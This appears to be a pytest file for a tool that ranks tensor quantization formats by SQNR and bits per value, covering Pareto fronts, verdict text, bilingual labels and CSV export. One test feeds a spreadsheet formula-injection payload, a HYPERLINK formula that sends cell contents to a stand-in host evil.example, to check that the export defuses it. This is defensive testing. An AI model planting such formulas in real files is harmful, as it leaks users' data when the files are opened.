"""lib.compare: ranking many choices on one tensor, Pareto front, budgets and verdicts."""

from __future__ import annotations

import io
import math

import numpy as np
import pandas as pd
import pytest

from lib.compare import (
    DEFAULT_CHOICES, Choice, best_per_budget, compare_csv, csv_file_name, display_table, error_text, format_metric,
    metrics_rows, negatives_lost, pareto_front, relative_error_percent, run_compare, short_headers, underflow_note,
    label_text, verdict, verdict_key,
)
from lib.i18n import t


def _table(rows: list[tuple[str, float, float]]) -> pd.DataFrame:
    return pd.DataFrame({"label": [r[0] for r in rows], "bits_per_element": [r[1] for r in rows],
                         "sqnr_db": [r[2] for r in rows], "error_key": [None] * len(rows)})


def test_pareto_front_drops_dominated_choices() -> None:
    df = _table([("a", 4.0, 20.0), ("b", 4.5, 18.0), ("c", 8.0, 40.0), ("d", 8.5, 40.0), ("e", 16.0, math.inf)])
    assert pareto_front(df) == ["a", "c", "e"]


def test_two_choices_at_the_same_point_are_both_on_the_front() -> None:
    """Neither dominates the other (nothing is strictly better): the second one was dropped."""
    df = _table([("a", 4.0, 20.0), ("twin", 4.0, 20.0), ("lower", 4.0, 19.0), ("c", 8.0, 40.0), ("c2", 8.0, 40.0),
                 ("more_bits", 8.5, 40.0)])
    assert pareto_front(df) == ["a", "twin", "c", "c2"]


def test_best_per_budget_allows_half_a_bit_of_scales() -> None:
    df = _table([("q4_0", 4.5, 21.0), ("int4", 4.125, 19.0), ("q8_0", 8.5, 45.0), ("bf16", 16.0, 52.0),
                 ("nvfp4", 4.5 + 32 / 4096, 23.0), ("big", 4.52, 30.0)])
    best = best_per_budget(df)
    assert best["budget"].tolist() == [4, 5, 6, 8, 16, 32]
    assert best.set_index("budget")["label"].to_dict() == {4: "nvfp4", 5: "big", 6: "big", 8: "q8_0",
                                                           16: "bf16", 32: "bf16"}


@pytest.mark.parametrize(("sqnr", "pct"), [
    (6003.0, "7.1 × 10⁻²⁹⁹"),  # [1e300, -1e300, 1] in int8: the line held ~300 zeros
    (180.0, "1 × 10⁻⁷"), (170.0, "3.2 × 10⁻⁷"), (120.0, "0.0001"), (100.1, "0.00099"), (40.0, "1"),
    (-10.0, "320"),
])
def test_verdict_percentages_never_run_to_hundreds_of_digits(sqnr: float, pct: str) -> None:
    for lang in ("en", "zh"):
        assert verdict(sqnr, lang) == t(f"cmp.verdict.{verdict_key(sqnr)}", lang, sqnr=f"{sqnr:.1f}", pct=pct)


@pytest.mark.parametrize(("bits", "text"), [
    (4.5, "4.5"), (4.5 + 32 / 2**18, "4.5001"), (8 + 32 / 4096, "8.008"), (8 + 32 / 2**20, "8.00003"),
    (8 + 32 / 10**9, "≈8"), (4.25, "4.25"), (16.0, "16"), (4.126953125, "4.127"),
])
def test_bits_per_value_never_look_rounder_than_they_are(bits: float, text: str) -> None:
    """NVFP4's 4.500122 read "4.5", as Q4_0's exact 4.5."""
    assert format_metric("bits_per_element", bits) == text


@pytest.mark.parametrize(("ratio", "text"), [
    (32 / (8 + 32 / 262_144), "3.9999×"), (4.0, "4×"), (32 / 4.5, "7.11×"), (32 / 4.25, "7.53×"), (2.0, "2×"),
    (32 / (8 + 32 / 2**24), "≈4×"),
])
def test_compression_never_looks_rounder_than_it_is(ratio: float, text: str) -> None:
    """Quantize read "8.0001 bits" and then "compression 4×" (3.9995×)."""
    assert format_metric("compression_vs_fp32", ratio) == text


def test_run_compare_reuses_the_rows_it_is_given(monkeypatch: pytest.MonkeyPatch) -> None:
    """A page's cache: taking one choice off a list of three runs nothing; adding one runs only it."""
    import lib.compare as cmp

    x = np.random.default_rng(2).standard_normal((16, 64)).astype(np.float32)
    three = (Choice("int8"), Choice("q8_0"), Choice("int4", "absmax", "channel"))
    done: dict = {}
    full = run_compare(x, three, axis=0, done=done)
    assert set(done) == {c.result_key(0) for c in three}
    ran: list[str] = []
    real = cmp._one
    monkeypatch.setattr(cmp, "_one", lambda x, c, a: ran.append(c.label) or real(x, c, a))
    fewer = run_compare(x, three[1:], axis=0, done=done)
    assert ran == [] and fewer["label"].tolist() == [lab for lab in full["label"] if lab != "int8 absmax"]
    more = run_compare(x, (*three, Choice("nf4")), axis=0, done=done)
    assert ran == ["nf4"] and len(more) == 4
    pd.testing.assert_frame_equal(more[more["label"] != "nf4"].drop(columns="seconds").reset_index(drop=True),
                                  full.drop(columns="seconds"))


def test_a_new_axis_reruns_only_the_per_channel_choices(monkeypatch: pytest.MonkeyPatch) -> None:
    """Compare reran every choice when the channel axis changed, though only per-channel ones use
    it; the reused rows must equal a fresh run on the new axis."""
    import lib.compare as cmp

    x = np.random.default_rng(3).standard_normal((16, 64)).astype(np.float32)
    x[:, 5] *= 40  # an outlier column: per channel along axis 0 and 1 differ
    three = (Choice("int8"), Choice("int8", "absmax", "channel"), Choice("int4", "absmax", "group", 32))
    done: dict = {}
    run_compare(x, three, axis=0, done=done)
    fresh = run_compare(x, three, axis=1)
    ran: list[str] = []
    real = cmp._one
    monkeypatch.setattr(cmp, "_one", lambda x, c, a: ran.append(c.label) or real(x, c, a))
    moved = run_compare(x, three, axis=1, done=done)
    assert ran == ["int8 absmax ch"]
    pd.testing.assert_frame_equal(moved.drop(columns="seconds"), fresh.drop(columns="seconds"))
    back = run_compare(x, three, axis=0, done=done)
    assert ran == ["int8 absmax ch"]  # axis 0's own row is still kept
    ch = {a: df.set_index("label").loc["int8 absmax ch", "sqnr_db"] for a, df in ((0, back), (1, moved))}
    assert ch[1] > ch[0] + 10  # per column isolates the outlier column; per row does not


@pytest.mark.parametrize(("label", "zh"), [
    ("int8 absmax ch", "int8 absmax 逐通道"), ("int4 absmax g128", "int4 absmax 逐组 128"),
    ("float16 none", "float16 无缩放"), ("mxfp4", "mxfp4"), ("int8 mse", "int8 mse"), ("q4_0", "q4_0"),
])
def test_choice_labels_are_shown_in_chinese_words(label: str, zh: str) -> None:
    """Compare's labels kept English words ("ch", "g128", "none") on the Chinese page, where
    Quantize says 逐通道, 逐组 128 and 无 for the same settings."""
    assert label_text(label, "en") == label and label_text(label, "zh") == zh


def test_verdicts_thresholds_and_translation() -> None:
    assert [verdict_key(v) for v in (math.inf, 45, 40, 30, 20, 10, math.nan)] == [
        "exact", "near_lossless", "near_lossless", "good", "noticeable", "severe", "unknown"]
    assert relative_error_percent(40.0) == pytest.approx(1.0)
    assert verdict(40.0, "en").startswith("Near lossless: SQNR 40.0 dB") and "1%" in verdict(40.0, "en")
    assert verdict(12.0, "zh").startswith("误差严重：")
    # two significant digits, never an exponent: a cast that lost everything read "about 1e+02%"
    assert "about 100% of the signal" in verdict(0.0, "en") and "about 320%" in verdict(-10.0, "en")
    assert "about 0.00001%" in verdict(140.0, "en") and "about 25%" in verdict(12.0, "en")
    # an overflow to ±Inf: no "about inf%" sentence, but why and what to do
    assert verdict_key(-math.inf) == "severe" and "inf%" not in verdict(-math.inf, "en")
    assert verdict(-math.inf, "en") == t("cmp.verdict.infinite", "en") and "−∞" in verdict(-math.inf, "zh")
    assert format_metric("cosine", math.nan) == "—"


def test_format_metric() -> None:
    assert format_metric("clipped_fraction", 0.0012) == "0.12%"
    assert format_metric("sqnr_db", math.inf) == "∞"
    assert format_metric("levels_used", 255.0) == "255"
    assert format_metric("cosine", 0.99997) == "1 − 3e-05" and format_metric("cosine", 1.0) == "1"
    assert format_metric("cosine", 0.99984) == "0.9998" and format_metric("cosine", 1 - 2.2e-8) == "1 − 2.2e-08"
    rows = metrics_rows({"sqnr_db": 40.123, "levels_used": 12.0}, "zh")
    assert rows.iloc[0].tolist() == ["SQNR（dB，越高越好）", "40.12"]
    assert format_metric("flushed_to_zero_fraction", 2 / 3) == "66.7%"
    assert format_metric("flushed_to_zero_fraction", 0.0) == "0%"
    # near all is not all: 1 value of 16,384 kept read "100%" flushed (and a file's shares summed past 100%)
    assert format_metric("flushed_to_zero_fraction", 16383 / 16384) == "99.99%"
    assert format_metric("error_share", 0.999949) == "99.99%" and format_metric("error_share", 1.0) == "100%"
    assert format_metric("clipped_fraction", 1 - 1e-9) == ">99.9999%"
    # bits per value exactly where 6 decimals hold it: int4 min-max g128 is 4.28125, not "4.281"
    assert [format_metric("bits_per_element", b) for b in (4.28125, 3.0625, 4.5 + 32 / 2**18, 8 + 32 / 10**9)] == [
        "4.28125", "3.0625", "4.5001", "≈8"]


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_metrics_rows_show_the_flushed_fraction_right_after_the_clipped_one(lang: str) -> None:
    from lib.quantize import quantize

    m = quantize(np.float32([1e-5, -1e-5, 0.5, 0.0]), "float8_e4m3fn", method="none").metrics
    rows = metrics_rows(m, lang)
    names = rows.iloc[:, 0].tolist()
    at = names.index(t("quant.m.clipped_fraction", lang))
    assert rows.iloc[at].tolist()[1] == "0%"
    assert rows.iloc[at + 1].tolist() == [t("quant.m.flushed_to_zero_fraction", lang), "66.7%"]


@pytest.mark.parametrize(("fmt", "overflow", "shown", "key"), [
    ("float16", "ieee", "inf", "overflow_fraction"), ("float8_e4m3fn", "ieee", "nan", "overflow_fraction"),
    ("float8_e4m3fn", "saturate", "448.0", "clipped_fraction"), ("float4_e2m1fn", "ieee", "6.0", "clipped_fraction"),
])
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_values_that_overflow_to_inf_or_nan_are_not_called_clipped(fmt: str, overflow: str, shown: str, key: str,
                                                                   lang: str) -> None:
    """With overflow "ieee" 70000 becomes inf in float16 (NaN in E4M3), yet the table said
    "fraction of values clipped: 25%"; FP4 has no inf or NaN and saturates either way."""
    from lib.quantize import quantize

    r = quantize(np.float32([1.0, 2.0, 70000.0, 3.0]), fmt, method="none", overflow=overflow)
    assert str(r.dequantized[2]) == shown and r.overflows_to_special == (key == "overflow_fraction")
    rows = metrics_rows(r.metrics, lang, r.overflows_to_special).set_index(t("quant.metric", lang))
    assert rows.loc[t(f"quant.m.{key}", lang)].tolist() == ["25%"]
    assert t("quant.m.clipped_fraction" if key != "clipped_fraction" else "quant.m.overflow_fraction", lang) not in rows.index


def test_underflow_note_only_for_a_float_format_with_no_scale() -> None:
    note = underflow_note(2 / 3, "float8_e4m3fn", "none")
    assert note == ("66.7% of the non-zero values are at most half of float8_e4m3fn's smallest subnormal "
                    "(2^-9 / 2 = 2^-10 ≈ 0.000977) in size and became 0: a scale moves them into the format's range.")
    zh = underflow_note(2 / 3, "float8_e4m3fn", "none", "nearest_away", "zh")
    assert zh.startswith("66.7% 的非零数值") and "2^-10 ≈ 0.000977" in zh and "被舍入为 0" in zh
    # toward zero (and stochastic) rounding send everything below the smallest subnormal to 0
    assert "than float8_e5m2's smallest subnormal (2^-16 ≈ 1.53e-05)" in underflow_note(0.25, "float8_e5m2", "none",
                                                                                         "toward_zero")
    assert "2^-25 ≈ 2.98e-08" in underflow_note(1.0, "float16", "none") and "100%" in underflow_note(1.0, "float16", "none")
    assert "nearest non-zero level of its scaled grid" in underflow_note(2 / 3, "float8_e4m3fn", "absmax")  # scaled
    assert underflow_note(0.5, "int8", "none") == "" and underflow_note(0.5, "nf4", "none") == ""
    assert underflow_note(0.0, "float8_e4m3fn", "none") == "" and underflow_note(0.5, "mxfp4", "none") == ""


def test_compare_table_and_csv_show_the_flushed_fraction() -> None:
    x = np.float32([1e-5, -1e-5, 0.5, 0.0] * 16)
    df = run_compare(x, (Choice("float8_e4m3fn", "none"), Choice("float8_e4m3fn", "absmax")))
    shown = display_table(df, "zh").set_index(t("cmp.col.label", "zh"))
    column = t("quant.m.flushed_to_zero_fraction", "zh")
    assert list(shown.columns).index(column) == list(shown.columns).index(t("quant.m.clipped_fraction", "zh")) + 1
    assert shown[column].to_dict() == {"float8_e4m3fn absmax": "0%", "float8_e4m3fn 无缩放": "66.7%"}  # label_text
    back = pd.read_csv(io.StringIO(compare_csv(df))).set_index("label")
    assert back.loc["float8_e4m3fn none", "flushed_to_zero_fraction"] == pytest.approx(2 / 3, rel=1e-15)
    assert back.loc["float8_e4m3fn absmax", "flushed_to_zero_fraction"] == 0.0


def test_labels() -> None:
    assert Choice("int4", "absmax", "group", 128).label == "int4 absmax g128"
    assert Choice("int8", "absmax", "channel").label == "int8 absmax ch"
    assert Choice("mxfp4").label == "mxfp4"
    assert len({c.label for c in DEFAULT_CHOICES}) == len(DEFAULT_CHOICES) >= 12


@pytest.fixture(scope="module")
def table() -> pd.DataFrame:
    x = np.random.default_rng(0).standard_normal((256, 256)).astype(np.float32)
    calls: list[tuple[int, int, str]] = []
    bad = Choice("int8", "absmax", "group", 7)  # 256 is not a multiple of 7: padded, still runs
    wrong = Choice("no_such_format")
    df = run_compare(x, [*DEFAULT_CHOICES, bad, wrong], axis=0, progress=lambda i, n, s: calls.append((i, n, s)))
    df.attrs["calls"] = calls
    return df


def test_run_compare_orders_by_sqnr_and_reports_failures(table: pd.DataFrame) -> None:
    ok = table[table["error_key"].isna()]
    assert len(ok) == len(DEFAULT_CHOICES) + 1
    sq = ok["sqnr_db"].to_numpy()
    assert np.all(np.diff(sq) <= 0)  # best first
    failed = table[table["error_key"].notna()]
    assert failed["label"].tolist() == ["no_such_format absmax"] and table.index[-1] == len(table) - 1
    assert "no_such_format" in error_text(failed.iloc[0], "en")
    calls = table.attrs["calls"]
    assert calls[0] == (0, len(DEFAULT_CHOICES) + 2, DEFAULT_CHOICES[0].label) and calls[-1][0] == calls[-1][1]


def test_run_compare_values_are_plausible(table: pd.DataFrame) -> None:
    by = table.set_index("label")
    assert by.loc["float16 none", "bits_per_element"] == 16 and by.loc["float16 none", "sqnr_db"] > 60
    assert by.loc["q8_0", "bits_per_element"] == pytest.approx(8.5)
    assert by.loc["mxfp4", "bits_per_element"] == pytest.approx(4.25)
    assert by.loc["q4_0", "bits_per_element"] == pytest.approx(4.5)
    assert 35 < by.loc["int8 absmax ch", "sqnr_db"] < 45
    assert by.loc["int8 absmax ch", "sqnr_db"] > by.loc["int4 absmax g128", "sqnr_db"] + 15  # ~6 dB per bit
    assert by.loc["mxfp8_e4m3", "sqnr_db"] > by.loc["mxfp4", "sqnr_db"]
    front = pareto_front(table)
    assert front[0] in ("mxfp4", "nf4", "int4 absmax g128", "q4_0", "nvfp4") and front[-1] == "float16 none"


def test_compare_csv_has_every_choice_at_full_precision_and_why_one_was_skipped() -> None:
    x = np.random.default_rng(4).standard_normal((64, 64)).astype(np.float32)
    choices = (Choice("float8_e4m3fn", "minmax"), Choice("int4", "absmax", "group", 32), Choice("float32", "none"))
    df = run_compare(x, choices, axis=1)
    back = pd.read_csv(io.StringIO(compare_csv(df, "zh")))
    assert list(back["label"]) == ["float32 none", "int4 absmax g32", "float8_e4m3fn minmax"]  # rank order
    assert back["sqnr_db"][0] == math.inf and back["block_size"][1] == 32
    assert back["sqnr_db"][1] == df["sqnr_db"][1]  # not rounded for display
    assert back["bits_per_element"][1] == 4 + 32 / 32
    assert back["skipped"].isna()[:2].all() and "float8_e4m3fn" in back["skipped"][2] and "整数" in back["skipped"][2]
    # a failed choice keeps its settings; counts are whole numbers in the file
    assert back["granularity"].tolist() == ["tensor", "group", "tensor"]
    head, text = compare_csv(df, "en").splitlines()[:2]
    assert text.startswith("float32 none,float32,none,tensor,,inf,32.0,")
    row = dict(zip(head.split(","), text.split(",")))
    assert row["levels_used"].isdigit() and row["levels_available"].isdigit()  # it checked field 12 for ".0,"


@pytest.mark.parametrize("tensor", ['=HYPERLINK("https://evil.example/?d="&A1,"details")', "+1", "-w", "@SUM(A1)",
                                    "\tx"])
def test_compare_csv_never_hands_a_spreadsheet_a_formula(tensor: str) -> None:
    """A tensor named '=HYPERLINK(...)' was written as that formula, which Excel and LibreOffice
    run when the file is opened (security review). Text cells that start as a formula get a
    leading ' and read back as the name; numbers keep their sign."""
    x = np.random.default_rng(4).standard_normal((8, 8)).astype(np.float32) - 5
    df = run_compare(x, (Choice("int8", "absmax"),), axis=1)
    back = pd.read_csv(io.StringIO(compare_csv(df, "en", tensor)), keep_default_na=False)
    assert back["tensor"][0] == "'" + tensor
    assert back["label"][0] == "int8 absmax" and back["sqnr_db"][0] == df["sqnr_db"][0]
    assert compare_csv(df, "en", "layers.0.weight").splitlines()[1].endswith(",,layers.0.weight,")


def test_compare_csv_names_the_block_and_its_size_of_block_schemes() -> None:
    """Block schemes fix their own blocks: the file said "tensor" and no block size for them."""
    x = np.random.default_rng(5).standard_normal((8, 128)).astype(np.float32)
    names = ("mxfp4", "nvfp4", "q8_0", "q4_0", "nf4", "mxint8")
    df = run_compare(x, tuple(Choice(n) for n in names), axis=0)
    back = pd.read_csv(io.StringIO(compare_csv(df)))
    by = dict(zip(back["fmt"], zip(back["granularity"], back["block_size"], back["levels_available"])))
    assert by == {"mxfp4": ("block", 32, 15), "nvfp4": ("block", 16, 15), "q8_0": ("block", 32, 255),
                  "q4_0": ("block", 32, 16), "nf4": ("block", 64, 16), "mxint8": ("block", 32, 255)}


def test_per_channel_on_a_vector_is_skipped_with_a_reason() -> None:
    """A 1-D tensor has no channels: per-channel scaling gave every value its own scale (SQNR inf,
    40 bits per value) and was ranked first as 'near lossless'. Now it is skipped, with why."""
    x = np.random.default_rng(0).standard_normal(4096).astype(np.float32)
    df = run_compare(x, (Choice("int8", "absmax", "channel"), Choice("int8", "absmax")))
    skipped = df[df["label"] == "int8 absmax ch"].iloc[0]
    assert skipped["error_key"] == "cmp.channel_needs_matrix" and math.isnan(skipped["sqnr_db"])
    assert "(4096,)" in error_text(skipped, "en") and "(4096,)" in error_text(skipped, "zh")
    assert df.iloc[0]["label"] == "int8 absmax" and 30 < df.iloc[0]["sqnr_db"] < 45
    matrix = run_compare(x.reshape(64, 64), (Choice("int8", "absmax", "channel"),))
    assert matrix.iloc[0]["error_key"] is None and matrix.iloc[0]["bits_per_element"] == 8.5


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_setting_warnings_name_what_the_settings_do(lang: str) -> None:
    from lib.compare import setting_warnings

    x = np.array([-1.0, 0.0, 1.0, 2.0])
    assert setting_warnings(x, Choice("uint8", "absmax"), 8.0, lang) == [
        t("quant.unsigned_negatives", lang, fmt="uint8", method=t("quant.method.absmax", lang), pct="25%", signed="int8")]
    assert setting_warnings(x, Choice("uint4", "none"), 4.0, lang) == [
        t("quant.unsigned_negatives_cast", lang, fmt="uint4", method=t("quant.method.none", lang), pct="25%",
          signed="int4")]
    assert setting_warnings(x, Choice("int8", "absmax", "channel"), 40.0, lang) == [
        t("quant.channel_1d", lang, shape=(4,), bits=40.0)]
    assert setting_warnings(x.reshape(2, 2), Choice("int8", "absmax", "channel"), 24.0, lang) == []
    assert setting_warnings(x, Choice("uint8", "minmax"), 8.0, lang) == []
    # one negative in 3,000 is 0.0333% of the tensor, as the table says; it read "0.0%"
    few = np.concatenate([np.ones(2999), [-1.0]])
    assert "0.0333%" in setting_warnings(few, Choice("uint8", "absmax"), 8.0, lang)[0]


def test_negatives_lost_by_unsigned_formats_with_a_symmetric_scale() -> None:
    x = np.array([-1.0, 0.0, 1.0, 2.0, np.nan])
    assert negatives_lost(x, "uint8", "absmax") == 0.25  # of the 4 finite values
    assert negatives_lost(x, "uint4", "mse") == 0.25
    assert negatives_lost(x, "uint8", "minmax") == 0.0  # the zero point shifts the range
    assert negatives_lost(x, "int8", "absmax") == 0.0 and negatives_lost(x, "nf4", "absmax") == 0.0
    assert negatives_lost(x, "mxfp4", "absmax") == 0.0 and negatives_lost(np.abs(x), "uint8", "absmax") == 0.0


def test_groups_and_blocks_run_along_the_last_axis_whatever_the_channel_axis() -> None:
    from lib.quantize import quantize

    x = np.random.default_rng(3).standard_normal((64, 256)).astype(np.float32)
    x[:, 5] *= 40  # an outlier column: blocks along rows all meet it, blocks down columns would not
    choices = (Choice("q4_0"), Choice("int4", "absmax", "group", 128), Choice("int8", "absmax", "channel"))
    df = run_compare(x, choices, axis=0).set_index("label")
    for c in choices:
        axis = 0 if c.granularity == "channel" else 1
        assert df.loc[c.label, "sqnr_db"] == quantize(x, **c.kwargs(axis)).metrics["sqnr_db"]
    assert run_compare(x, choices[:1], axis=1).iloc[0]["sqnr_db"] == df.loc["q4_0", "sqnr_db"]


def test_short_headers_keep_the_long_header_as_help() -> None:
    assert short_headers("en") == {
        "SQNR (dB, higher is better)": ("SQNR (dB)", "SQNR (dB, higher is better)"),
        "bits per value (scales and zero points included)": ("bits per value", "bits per value (scales and zero points included)"),
    }
    zh = short_headers("zh")
    assert zh["每值比特数（含缩放因子和零点）"] == ("每值比特数", "每值比特数（含缩放因子和零点）")
    assert zh["SQNR（dB，越高越好）"][0] == "SQNR（dB）"


def test_compare_csv_says_which_tensor_and_axis_it_is() -> None:
    """Every download was lowbit_compare.csv with no tensor column: five tensors, five files alike."""
    x = np.random.default_rng(6).standard_normal((16, 64)).astype(np.float32)
    df = run_compare(x, (Choice("int8", "absmax", "channel"), Choice("mxfp4")), axis=1)
    back = pd.read_csv(io.StringIO(compare_csv(df, "en", "layers.0.q_proj.weight", 1)))
    assert back["tensor"].tolist() == ["layers.0.q_proj.weight"] * 2 and back["channel_axis"].tolist() == [1, 1]
    assert list(back.columns[-3:]) == ["skipped", "tensor", "channel_axis"]
    assert csv_file_name("layers.0.q_proj.weight") == "layers.0.q_proj.weight_compare.csv"
    assert csv_file_name("model/block 1:w") == "model_block_1_w_compare.csv" and csv_file_name("") == "lowbit_compare.csv"


@pytest.mark.parametrize(("choice", "stem"), [
    (Choice("int8", "absmax", "channel"), "int8_absmax_ch"),
    (Choice("int4", "absmax", "group", 128), "int4_absmax_g128"),
    (Choice("int8", "percentile", percentile=99.5), "int8_percentile_p99.5"),
    (Choice("int8", "absmax", overflow="ieee", rounding="toward_zero"), "int8_absmax_toward_zero"),  # ints clamp
    (Choice("float8_e4m3fn", "none", overflow="ieee"), "float8_e4m3fn_none_ieee"),
    (Choice("float8_e4m3fn", "absmax", rounding="stochastic"), "float8_e4m3fn_absmax_stochastic"),
    (Choice("float4_e2m1fn", "absmax", overflow="ieee"), "float4_e2m1fn_absmax"),  # no NaN: saturates anyway
    (Choice("mxfp4", rounding="toward_zero"), "mxfp4_toward_zero"),
    (Choice("mxfp8_e4m3", overflow="ieee", rounding="nearest_away"), "mxfp8_e4m3_ieee_nearest_away"),
    (Choice("q4_0", overflow="ieee", rounding="stochastic"), "q4_0"),  # GGUF rounds its own way
    (Choice("nf4", overflow="ieee"), "nf4"),
])
def test_download_names_carry_every_setting_that_changes_the_numbers(choice: Choice, stem: str) -> None:
    """Two downloads with toward_zero and nearest rounding had one name."""
    assert choice.file_stem == stem


def test_a_mode_left_out_of_the_name_really_changes_nothing() -> None:
    from lib.quantize import quantize

    x = np.float32([1000.0, -1000.0, 0.3, 2.6])
    for fmt, kw in (("int8", {"method": "absmax"}), ("float4_e2m1fn", {"method": "none"}),
                    ("q4_0", {}), ("nf4", {})):
        plain = quantize(x, fmt, **kw).dequantized
        assert np.array_equal(quantize(x, fmt, overflow="ieee", **kw).dequantized, plain, equal_nan=True)
    assert np.array_equal(quantize(x, "q4_0", rounding="toward_zero").dequantized, quantize(x, "q4_0").dequantized)
    cast = quantize(x, "float8_e4m3fn", method="none", overflow="ieee").dequantized
    assert np.isnan(cast[0]) and quantize(x, "float8_e4m3fn", method="none").dequantized[0] == 448  # ieee shows


def test_choice_presets_are_catalogue_labels_of_their_bit_width() -> None:
    """4-bit: 4-bit elements, 4.125 (int4 per channel) to 5 bits (groups of 32) with their scales."""
    from lib.compare import CATALOGUE, CHOICE_PRESETS

    by_label = {c.label: c for c in CATALOGUE}
    assert CHOICE_PRESETS["default"] == tuple(c.label for c in DEFAULT_CHOICES)
    assert set(CHOICE_PRESETS["all"]) == set(by_label) and len(CHOICE_PRESETS["all"]) == 32
    x = np.random.default_rng(2).standard_normal((64, 256)).astype(np.float32)
    for name, (lo, hi) in {"eight_bit": (8, 8.5), "four_bit": (4, 5), "int8_methods": (8, 8.5)}.items():
        df = run_compare(x, [by_label[label] for label in CHOICE_PRESETS[name]], axis=0)
        assert df["error_key"].isna().all(), name
        assert df["bits_per_element"].between(lo, hi + 0.01).all(), (name, df[["label", "bits_per_element"]])
    assert {by_label[label].fmt for label in CHOICE_PRESETS["int8_methods"]} == {"int8", "uint8"}


def test_scaled_underflow_note_from_ten_percent_and_per_rounding() -> None:
    from lib.compare import SCALED_UNDERFLOW_NOTE_MIN

    assert SCALED_UNDERFLOW_NOTE_MIN == 0.10
    note = underflow_note(0.531, "int8", "absmax", "nearest_even", "en")
    assert note.startswith("53.1% of the non-zero values became 0: each is at most half of the nearest non-zero level")
    assert underflow_note(0.531, "mxfp4", "absmax", "toward_zero", "zh").startswith("53.1% 的非零数值被舍入为 0：它们的绝对值都小于")
    assert underflow_note(0.099, "int8", "absmax") == "" and underflow_note(0.0, "q4_0", "absmax") == ""


@pytest.mark.parametrize(("fmt", "kw"), [
    ("int8", {}), ("int8", {"method": "minmax"}), ("int4", {"granularity": "group", "block_size": 32, "axis": 1}),
    ("float8_e4m3fn", {}), ("float4_e2m1fn", {"granularity": "channel"}), ("mxfp4", {"axis": 1}),
    ("nvfp4", {"axis": 1}), ("nf4", {"axis": 1}), ("q4_0", {"axis": 1}), ("q8_0", {"axis": 1}),
])
def test_what_the_scaled_note_says_of_every_value_that_became_0(fmt: str, kw: dict) -> None:
    """"each is at most half of the nearest non-zero level of its scaled grid": checked value by value,
    on data whose outliers flush many values (the LLM-like matrix)."""
    from lib.blocks import SCHEMES
    from lib.formats import get_format
    from lib.quantize import quantize
    from lib.synthetic import synthetic

    x = synthetic("llm_like", (256, 128), seed=3)
    r = quantize(x, fmt, **kw)
    element = SCHEMES[fmt].element_format if fmt in SCHEMES else fmt
    levels = np.array([get_format(element).decode(c) for c in range(2 ** get_format(element).bits)], np.float64)
    levels = levels[np.isfinite(levels)] - (8 if fmt == "q4_0" else 0)  # Q4_0 stores q, x̂ = (q - 8)·d
    up, down = levels[levels > 0].min(), -levels[levels < 0].max()  # nearest non-zero level on each side
    flushed = (x != 0) & (r.dequantized == 0)
    assert flushed.sum() >= 10, (fmt, flushed.sum())  # the check below has something to check
    step = np.abs(np.broadcast_to(r.scale_per_element(), x.shape).astype(np.float64)[flushed])  # Q4_0: d < 0 too
    v = x[flushed].astype(np.float64)
    half = np.where(v > 0, up, down) * step / 2
    assert np.all(np.abs(v) <= half * (1 + 1e-6)), fmt
